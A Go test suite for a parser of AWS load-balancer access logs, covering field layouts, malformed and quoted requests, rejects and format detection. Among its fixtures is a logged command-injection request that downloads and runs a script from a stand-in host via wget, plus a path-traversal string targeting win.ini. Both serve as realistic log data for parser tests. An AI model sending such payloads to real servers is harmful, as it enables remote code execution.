package alb

import (
	"maps"
	"strings"
	"testing"
	"time"

	"github.com/lbtriage/lbtriage/internal/readertest"
	"github.com/lbtriage/lbtriage/parser"
)

// fullLine is the documented HTTPS example with every field up to
// request_transform_status (33 fields), plus the trailing node IP some
// writers report as a 34th field.
var fullFields = []string{
	`https`, `2018-07-02T22:23:00.186641Z`, `app/my-loadbalancer/50dc6c495c0c9188`,
	`192.168.131.39:2817`, `10.0.0.1:80`, `0.086`, `0.048`, `0.037`, `200`, `200`, `0`, `57`,
	`"GET https://www.example.com:443/ HTTP/1.1"`, `"curl/7.46.0"`, `ECDHE-RSA-AES128-GCM-SHA256`, `TLSv1.2`,
	`arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067`,
	`"Root=1-58337281-1d84f3d73c47ec4e58577259"`, `"www.example.com"`,
	`"arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012"`,
	`1`, `2018-07-02T22:22:48.364000Z`, `"authenticate,forward"`, `"-"`, `"-"`, `"10.0.0.1:80"`, `"200"`,
	`"-"`, `"-"`, `TID_1234abcd5678ef90`, `"m.example.com"`, `"-"`, `"TransformSuccess"`, `10.1.2.3`,
}

var fullWant = map[string]any{
	ColType: "https", ColTime: "2018-07-02T22:23:00.186641Z", ColELB: "app/my-loadbalancer/50dc6c495c0c9188",
	ColClientIP: "192.168.131.39", ColClientPort: 2817, ColTargetIP: "10.0.0.1", ColTargetPort: 80,
	ColRequestProcessingTime: 0.086, ColTargetProcessingTime: 0.048, ColResponseProcessingTime: 0.037,
	ColELBStatusCode: 200, ColTargetStatusCode: 200, ColReceivedBytes: 0, ColSentBytes: 57,
	ColRequestMethod: "GET", ColRequestURL: "https://www.example.com:443/", ColRequestProto: "HTTP/1.1",
	ColUserAgent: "curl/7.46.0", ColSSLCipher: "ECDHE-RSA-AES128-GCM-SHA256", ColSSLProtocol: "TLSv1.2",
	ColTargetGroupARN:      "arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067",
	ColTraceID:             "Root=1-58337281-1d84f3d73c47ec4e58577259",
	ColDomainName:          "www.example.com",
	ColChosenCertARN:       "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012",
	ColMatchedRulePriority: 1, ColRequestCreationTime: "2018-07-02T22:22:48.364000Z",
	ColActionsExecuted: "authenticate,forward", ColTargetPortList: "10.0.0.1:80", ColTargetStatusCodeList: "200",
	ColConnTraceID: "TID_1234abcd5678ef90", ColTransformedHost: "m.example.com", ColRequestTransformStatus: "TransformSuccess",
}

// columnField is the field position each column comes from.
var columnField = map[string]int{
	ColType: fType, ColTime: fTime, ColELB: fELB, ColClientIP: fClient, ColClientPort: fClient,
	ColTargetIP: fTarget, ColTargetPort: fTarget, ColRequestProcessingTime: fRequestProcessingTime,
	ColTargetProcessingTime: fTargetProcessingTime, ColResponseProcessingTime: fResponseProcessingTime,
	ColELBStatusCode: fELBStatusCode, ColTargetStatusCode: fTargetStatusCode, ColReceivedBytes: fReceivedBytes,
	ColSentBytes: fSentBytes, ColRequestMethod: fRequest, ColRequestURL: fRequest, ColRequestProto: fRequest,
	ColUserAgent: fUserAgent, ColSSLCipher: fSSLCipher, ColSSLProtocol: fSSLProtocol,
	ColTargetGroupARN: fTargetGroupARN, ColTraceID: fTraceID, ColDomainName: fDomainName,
	ColChosenCertARN: fChosenCertARN, ColMatchedRulePriority: fMatchedRulePriority,
	ColRequestCreationTime: fRequestCreationTime, ColActionsExecuted: fActionsExecuted,
	ColRedirectURL: fRedirectURL, ColErrorReason: fErrorReason, ColTargetPortList: fTargetPortList,
	ColTargetStatusCodeList: fTargetStatusCodeList, ColClassification: fClassification,
	ColClassificationReason: fClassificationReason, ColConnTraceID: fConnTraceID,
	ColTransformedHost: fTransformedHost, ColTransformedURI: fTransformedURI,
	ColRequestTransformStatus: fRequestTransformStatus,
}

func TestColumnField(t *testing.T) {
	for _, f := range Schema().Fields() {
		if _, ok := columnField[f.Name]; !ok {
			t.Errorf("column %s has no field position in the test table", f.Name)
		}
	}
}

// parseOne parses one line with all columns and returns its row.
func parseOne(t *testing.T, line string) map[string]any {
	t.Helper()
	return readertest.ParseOne(t, Decoder{}.NewReader, line)
}

func TestReaderLayouts_Success(t *testing.T) {
	f := func(n int) {
		t.Helper()
		line := strings.Join(fullFields[:n], " ")
		want := maps.Clone(fullWant)
		for col := range want {
			if columnField[col] >= n {
				delete(want, col)
			}
		}
		checkRow(t, parseOne(t, line), want)
	}
	// Every historical layout, plus the 34-field lines with a trailing
	// node IP, which is ignored.
	for _, n := range []int{16, 18, 20, 23, 24, 25, 27, 28, 29, 30, 33, 34} {
		t.Run("", func(t *testing.T) { f(n) })
	}
}

// with returns fullWant with the changes applied; a nil value deletes.
func with(kv ...any) map[string]any { return readertest.With(fullWant, kv...) }

// lineWith returns the 33-field line with field i replaced.
func lineWith(kv ...any) string { return readertest.LineWith(fullFields[:33], kv...) }

func TestReaderFields_Success(t *testing.T) {
	f := func(line string, want map[string]any) {
		t.Helper()
		checkRow(t, parseOne(t, line), want)
	}
	// IPv6 client and target without brackets: split at the last ':'.
	f(lineWith(fClient, `2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc:50599`, fTarget, `fd6d:6bbc:c529:6::face:ed83:f46:80`),
		with(ColClientIP, "2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc", ColClientPort, 50599,
			ColTargetIP, "fd6d:6bbc:c529:6::face:ed83:f46", ColTargetPort, 80))
	// LB-answered request: no target, -1 timings, no target status.
	f(lineWith(fTarget, `-`, fRequestProcessingTime, `-1`, fTargetProcessingTime, `-1`, fResponseProcessingTime, `-1`,
		fELBStatusCode, `503`, fTargetStatusCode, `-`),
		with(ColTargetIP, nil, ColTargetPort, nil, ColRequestProcessingTime, nil, ColTargetProcessingTime, nil,
			ColResponseProcessingTime, nil, ColELBStatusCode, 503, ColTargetStatusCode, nil))
	// Target set, response time -1 only (504 from a silent target).
	f(lineWith(fResponseProcessingTime, `-1`, fELBStatusCode, `504`, fTargetStatusCode, `504`),
		with(ColResponseProcessingTime, nil, ColELBStatusCode, 504, ColTargetStatusCode, 504))
	// Microsecond timings.
	f(lineWith(fRequestProcessingTime, `0.000036`, fTargetProcessingTime, `0.001035`, fResponseProcessingTime, `12`),
		with(ColRequestProcessingTime, 0.000036, ColTargetProcessingTime, 0.001035, ColResponseProcessingTime, 12.0))
	// Raw spaces in the URL (SpaceInUri).
	f(lineWith(fRequest, `"GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/jaws;sh HTTP/1.1"`),
		with(ColRequestURL, "http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/jaws;sh"))
	// Malformed requests.
	f(lineWith(fRequest, `"- http://host:80- "`),
		with(ColRequestMethod, nil, ColRequestURL, "http://host:80-", ColRequestProto, nil))
	f(lineWith(fRequest, `"- http://host:8080- -"`),
		with(ColRequestMethod, nil, ColRequestURL, "http://host:8080-", ColRequestProto, nil))
	f(lineWith(fRequest, `"- http://internal.example.com:80-/ "`),
		with(ColRequestMethod, nil, ColRequestURL, "http://internal.example.com:80-/", ColRequestProto, nil))
	f(lineWith(fRequest, `"- - - "`), with(ColRequestMethod, nil, ColRequestURL, nil, ColRequestProto, nil))
	f(lineWith(fRequest, `""`), with(ColRequestMethod, nil, ColRequestURL, nil, ColRequestProto, nil))
	// Trailing space after the protocol; odd methods.
	f(lineWith(fRequest, `"GET http://x:80/ HTTP/1.0 "`), with(ColRequestURL, "http://x:80/", ColRequestProto, "HTTP/1.0"))
	f(lineWith(fRequest, `"--location https://example.com/ HTTP/2.0"`),
		with(ColRequestMethod, "--location", ColRequestURL, "https://example.com/", ColRequestProto, "HTTP/2.0"))
	f(lineWith(fRequest, `"GET https://example.com"`), with(ColRequestURL, "https://example.com", ColRequestProto, nil))
	// \x22-style escapes are kept as written; \" inside quotes is tolerated.
	f(lineWith(fUserAgent, `"\x22Mozilla/5.0 (iPhone)\x22"`), with(ColUserAgent, `\x22Mozilla/5.0 (iPhone)\x22`))
	f(lineWith(fUserAgent, `"say \"hi\" now"`), with(ColUserAgent, `say \"hi\" now`))
	f(lineWith(fUserAgent, `"a \"quoted\""`), with(ColUserAgent, `a \"quoted\"`))
	f(lineWith(fRequest, `"GET http://x/?q=\x22a\x22 HTTP/1.1"`), with(ColRequestURL, `http://x/?q=\x22a\x22`))
	// Double spaces inside a quoted user agent survive.
	f(lineWith(fUserAgent, `"Mobile/15E148  Safari//x"`), with(ColUserAgent, "Mobile/15E148  Safari//x"))
	// Empty quoted field is an empty string, not null; "-" is null.
	f(lineWith(fActionsExecuted, `""`, fUserAgent, `"-"`), with(ColActionsExecuted, "", ColUserAgent, nil))
	// TLS 1.3 cipher names.
	f(lineWith(fSSLCipher, `TLS_AES_128_GCM_SHA256`, fSSLProtocol, `TLSv1.3`),
		with(ColSSLCipher, "TLS_AES_128_GCM_SHA256", ColSSLProtocol, "TLSv1.3"))
	// Unquoted list fields (old documentation form) and unquoted domain/cert.
	f(lineWith(fTargetPortList, `10.0.0.1:80`, fTargetStatusCodeList, `200`, fDomainName, `-`, fChosenCertARN, `-`),
		with(ColDomainName, nil, ColChosenCertARN, nil))
	// Quoted conn_trace_id, leading space in SNI, unknown type of priority.
	f(lineWith(fConnTraceID, `"TID_x"`, fDomainName, `" sub.example.com"`, fMatchedRulePriority, `-`),
		with(ColConnTraceID, "TID_x", ColDomainName, " sub.example.com", ColMatchedRulePriority, nil))
	f(lineWith(fMatchedRulePriority, `-1`, fRequestCreationTime, `-`), with(ColMatchedRulePriority, -1, ColRequestCreationTime, nil))
	// Every type.
	for _, typ := range []string{"http", "h2", "grpcs", "ws", "wss"} {
		f(lineWith(fType, typ), with(ColType, typ))
	}
	// Redirect URL with \x5C escapes; all actions.
	f(lineWith(fActionsExecuted, `"waf,redirect"`, fRedirectURL, `"https://r.example.com?k=..\x5C..\x5Cwin.ini"`),
		with(ColActionsExecuted, "waf,redirect", ColRedirectURL, `https://r.example.com?k=..\x5C..\x5Cwin.ini`))
	// Classification.
	f(lineWith(fClassification, `"Acceptable"`, fClassificationReason, `"SpaceInUri"`),
		with(ColClassification, "Acceptable", ColClassificationReason, "SpaceInUri"))
	// Whole-second and millisecond timestamps; leap day.
	f(lineWith(fTime, `2024-02-29T23:59:59Z`, fRequestCreationTime, `2024-02-29T23:59:58.5Z`),
		with(ColTime, "2024-02-29T23:59:59.000000Z", ColRequestCreationTime, "2024-02-29T23:59:58.500000Z"))
	// Trailing whitespace and CRLF endings are dropped.
	f(lineWith()+"  \r\n", fullWant)
	// Unknown trailing fields, even with a stray quote, are ignored.
	f(lineWith()+` 10.1.2.3 "unterminated`, fullWant)
}

func TestReaderRejects_Failure(t *testing.T) {
	f := func(line, reason string) {
		t.Helper()
		readertest.CheckReject(t, Decoder{}.NewReader, line, reason)
	}
	f(`h2 2024-05-28T13:34:14.804475Z`, "2 fields, want at least 16")
	f(strings.Join(fullFields[:15], " "), "15 fields, want at least 16")
	f(lineWith(fTime, `2018-07-02 22:23:00Z`), `bad time "2018-07-02"`)
	f(lineWith(fTime, `2018-02-30T22:23:00.186641Z`), `bad time "2018-02-30T22:23:00.186641Z"`)
	f(lineWith(fTime, `2018-07-02T22:23:00.186641`), `bad time "2018-07-02T22:23:00.186641"`)
	f(lineWith(fClient, `192.168.131.39`), `bad client address "192.168.131.39"`)
	f(lineWith(fClient, `192.168.131.39:99999`), `bad client port "192.168.131.39:99999"`)
	f(lineWith(fTarget, `10.0.0.1:x`), `bad target port "10.0.0.1:x"`)
	f(lineWith(fRequestProcessingTime, `0.0.1`), `bad request_processing_time "0.0.1"`)
	f(lineWith(fTargetProcessingTime, `abc`), `bad target_processing_time "abc"`)
	f(lineWith(fResponseProcessingTime, `NaN`), `bad response_processing_time "NaN"`)
	f(lineWith(fELBStatusCode, `2OO`), `bad elb_status_code "2OO"`)
	f(lineWith(fTargetStatusCode, `-5`), `bad target_status_code "-5"`)
	f(lineWith(fReceivedBytes, `1k`), `bad received_bytes "1k"`)
	f(lineWith(fSentBytes, `99999999999999999999`), `bad sent_bytes "99999999999999999999"`)
	f(lineWith(fMatchedRulePriority, `TLSv1.2`), `bad matched_rule_priority "TLSv1.2"`)
	f(lineWith(fRequestCreationTime, `yesterday`), `bad request_creation_time "yesterday"`)
	f(lineWith(fRequestTransformStatus, `"TransformSuccess`), "unterminated quote in field 33")
	// A quote left open mid-line meets the opening quote of a later field.
	f(lineWith(fUserAgent, `"curl/7.46.0`), "stray quote in field 14")
	f(`https 2018-07-02T22:23:00.186641Z app/x 1.2.3.4:5 - -1 -1 -1 400 - 0 0 "GET /`, "unterminated quote in field 13")
	// A quote must open or close a field: a missing space beside one would
	// merge fields, and shift the others.
	f(strings.Replace(lineWith(), `-123456789012" 1 `, `-123456789012"1 `, 1), "stray quote in field 20")
	f(strings.Replace(lineWith(), ` 57 "GET`, ` 57"GET`, 1), "stray quote in field 12")
	f(strings.Replace(lineWith(), `"-" "10.0.0.1:80"`, `"-""10.0.0.1:80"`, 1), "stray quote in field 25")
	f(lineWith(fUserAgent, `"curl/"7.46.0"`), "stray quote in field 14")
	f(lineWith(fTraceID, `Root=1-5"8337281`), "stray quote in field 18")
	f(lineWith(fType, `tcp`), `unknown type "tcp"`)
	f(lineWith(fType, `HTTP`), `unknown type "HTTP"`)
	// Other formats: input.Scan names them.
	f(`2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000073 0.001048 0.000057 200 200 0 29 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.38.0" - -`,
		`unknown type "2015-05-13T23:39:43."...`)
	f(`tls 2.0 2018-12-20T02:59:40 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd 72.21.218.154:51341 172.100.100.185:443 5 2 98 246 - arn:aws:acm:us-east-2:671290407336:certificate/2a108f19-aded-46b0-8493-c63eb1ef4a99 - ECDHE-RSA-AES128-SHA tlsv12 - my-network-loadbalancer-c6e77e28c25b2234.elb.us-east-2.amazonaws.com - - - 2018-12-20T02:59:30`,
		`unknown type "tls"`)
	f("2019-12-04\t21:02:31\tLAX1\t392\t192.0.2.100\tGET\td111111abcdef8.cloudfront.net\t/index.html\t200",
		`unknown type "2019-12-04\t21:02:31\t"...`)
}

func TestReaderTimeRange(t *testing.T) {
	in := lineWith(fTime, "2020-01-02T00:00:00.000001Z") + "\n" +
		lineWith(fTime, "2019-12-31T23:59:59.999999Z") + "\n" +
		lineWith(fTime, "2020-01-01T12:00:00Z") + "\n"
	s := readString(t, in, parser.Options{}).Stats
	if got := fmtTime(s.MinTime); got != "2019-12-31T23:59:59.999999Z" {
		t.Errorf("MinTime %s", got)
	}
	if got := fmtTime(s.MaxTime); got != "2020-01-02T00:00:00.000001Z" {
		t.Errorf("MaxTime %s", got)
	}
	if s.MinTime.Location() != time.UTC {
		t.Errorf("MinTime not in UTC")
	}
	if s := readString(t, "\n", parser.Options{}).Stats; !s.MinTime.IsZero() || !s.MaxTime.IsZero() {
		t.Errorf("time range %v..%v without rows, want zero", s.MinTime, s.MaxTime)
	}
}

func TestReaderBatches(t *testing.T) {
	var lines []string
	for i := range 10 {
		lines = append(lines, lineWith(fSentBytes, string(rune('0'+i))))
	}
	readertest.CheckBatches(t, Decoder{}.NewReader, lines, &maxBatchBytes)
}

func TestReaderProjection(t *testing.T) {
	in := lineWith() + "\n" + lineWith(fTarget, "-", fTargetStatusCode, "-") + "\nbad\n"
	wantRows := []map[string]any{fullWant, with(ColTargetIP, nil, ColTargetPort, nil, ColTargetStatusCode, nil)}
	f := func(cols, wantCols []string) {
		t.Helper()
		readertest.CheckProjection(t, Decoder{}.NewReader, in, cols, wantCols, 1, wantRows...)
	}
	f(TriageColumns, TriageColumns)
	// Schema order, whatever the order asked; duplicates collapse.
	f([]string{ColErrorReason, ColTime, ColRequestProto, ColTime}, []string{ColTime, ColRequestProto, ColErrorReason})
	f([]string{ColTargetStatusCode}, []string{ColTargetStatusCode})
	var all []string
	for _, fl := range Schema().Fields() {
		all = append(all, fl.Name)
	}
	f(nil, all)
}

func TestNewReader_Failure(t *testing.T) {
	_, err := NewReader(strings.NewReader(""), parser.Options{Columns: []string{ColTime, "status"}})
	if err == nil || !strings.Contains(err.Error(), `"status"`) {
		t.Fatalf("err = %v, want unknown column", err)
	}
	if _, err := (Decoder{}).NewReader(strings.NewReader(""), parser.Options{Columns: []string{"x"}}); err == nil {
		t.Fatalf("Decoder.NewReader accepted an unknown column")
	}
}

func TestReaderMetadata(t *testing.T) {
	end := time.Date(2014, 2, 15, 23, 40, 0, 0, time.UTC)
	readertest.CheckMetadata(t, Decoder{}.NewReader, lineWith(), parser.Source{
		Name: "s3://b/k.log.gz", NodeIP: "172.160.1.192", Resource: "app/my-lb/50dc6c495c0c9188", End: end,
	}, map[string]string{
		MetaSource: "s3://b/k.log.gz", MetaNodeIP: "172.160.1.192",
		MetaLoadBalancer: "app/my-lb/50dc6c495c0c9188", MetaIntervalEnd: "2014-02-15T23:40:00Z",
	})
	res := readString(t, lineWith(), parser.Options{Source: parser.Source{Name: "a.log"}})
	if md := res.Schema.Metadata(); md.Len() != 1 || md.Keys()[0] != MetaSource {
		t.Errorf("metadata %v, want only %s", md, MetaSource)
	}
	if md := readString(t, lineWith(), parser.Options{}).Schema.Metadata(); md.Len() != 0 {
		t.Errorf("metadata %v, want none", md)
	}
}

// TestReaderHugeMaxLine checks that caps beyond what int32 token bounds hold
// are lowered to 1 GiB.
func TestReaderHugeMaxLine(t *testing.T) { readertest.CheckMaxLineCap(t, Decoder{}.NewReader) }

func TestSniff(t *testing.T) {
	f := func(head string, want int) {
		t.Helper()
		if got := (Decoder{}).Sniff([]byte(head)); got != want {
			t.Errorf("Sniff(%.40q) = %d, want %d", head, got, want)
		}
	}
	f(lineWith(), 1)
	f("\n\r\n  \n"+lineWith(), 1)
	f("h2 2024-05-28T13:34:14.804475Z", 1)
	f("wss 2016-08-10T00:42:46", 1)
	f("http 2016-08-10", 0)
	f("", 0)
	f("\n\n", 0)
	f("tls 2.0 2018-12-20T02:59:40 net/x", 0)
	f("2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817", 0)
	f("#Version: 1.0\n#Fields: date time", 0)
	f("http 1999-01-01T00:00:00Z", 0)
	// ALB health-check log lines start as access-log lines do.
	f("http 2026-03-14T09:26:40.118204Z 0.006209174 10.0.2.17:8080 web-blue PASS 200 - app/shop-alb/8c3e5f7a9b1d2c4e 10.0.1.233", 0)
	f("https 2026-03-14T09:26:47.992310Z 5 10.0.3.41:443 api-green FAIL 503 TargetError", 0)
	f("http 2026-03-14T09:26:40.118204Z 0.00", 0)
	f("http 2026-03-14T09:26:40.118204Z 0.00\r\n", 0)
	f("http 2026-03-14T09:26:40.118204Z app/x", 1)
	f("http 2016-08-10T00:42:46.123Z 5x 1.2.3.4:5", 1)
	if (Decoder{}).Format() != Format || (Decoder{}).Schema() != Schema() {
		t.Errorf("Format/Schema")
	}
}

func TestReaderTimeCache(t *testing.T) {
	// Lines sharing a minute reuse its parse; the seconds are still checked.
	in := lineWith(fTime, "2018-07-02T22:23:00.186641Z", fRequestCreationTime, "2018-07-02T22:22:48.364000Z") + "\n" +
		lineWith(fTime, "2018-07-02T22:23:59Z", fRequestCreationTime, "2018-07-02T22:23:01.5Z") + "\n" +
		lineWith(fTime, "2018-07-02T22:23:60Z") + "\n" +
		lineWith(fTime, "2018-07-02T22:23:07.000001") + "\n" +
		lineWith(fTime, "2018-07-02T22:24:07.000001Z") + "\n"
	res := readString(t, in, parser.Options{Columns: []string{ColTime, ColRequestCreationTime}})
	if len(res.Rejects) != 2 || res.Rejects[0].Line != 3 || res.Rejects[1].Line != 4 {
		t.Fatalf("rejects %v", res.Rejects)
	}
	want := [][2]string{
		{"2018-07-02T22:23:00.186641Z", "2018-07-02T22:22:48.364000Z"},
		{"2018-07-02T22:23:59.000000Z", "2018-07-02T22:23:01.500000Z"},
		{"2018-07-02T22:24:07.000001Z", "2018-07-02T22:22:48.364000Z"},
	}
	for i, w := range want {
		checkRow(t, res.Rows[i], map[string]any{ColTime: w[0], ColRequestCreationTime: w[1]})
	}
}

// TestReader_TokenizeLine reads the same varied input three ways: whole,
// where most lines are found and tokenized in one pass by SplitLine;
// one byte per read, where the buffer never holds a whole line and every
// line comes from the LineReader; and, where the CPU has the assembly,
// without it. Rows, rejects and counts must not change.
func TestReader_TokenizeLine(t *testing.T) {
	text, _ := synthesize(200<<10, 11)
	lines := strings.Split(strings.TrimSuffix(string(text), "\n"), "\n")
	// Quirks the one-pass tokenizer leaves to the others, among valid
	// lines: CRLF, blank lines, tabs, runs of spaces, lines past 33 fields.
	good := lineWith()
	for i, q := range []string{
		good + "\r", "", "\t", "  ", strings.Replace(good, " ", "  ", 3),
		good + ` extra "fields"`, good + "\t", "bogus", good + " ",
	} {
		lines[(i*97+5)%len(lines)] = q
	}
	in := strings.Join(lines, "\n") + "\n" + good // no trailing newline
	want := readertest.CheckReadWays(t, Decoder{}.NewReader, in)
	if want.Stats.Parsed < int64(len(lines))-5 || want.Stats.Comments != 3 {
		t.Fatalf("stats %+v", want.Stats)
	}
}

// TestReaderStream checks the behaviour every decoder's Reader shares.
func TestReaderStream(t *testing.T) { readertest.CheckStream(t, Decoder{}.NewReader, lineWith()) }
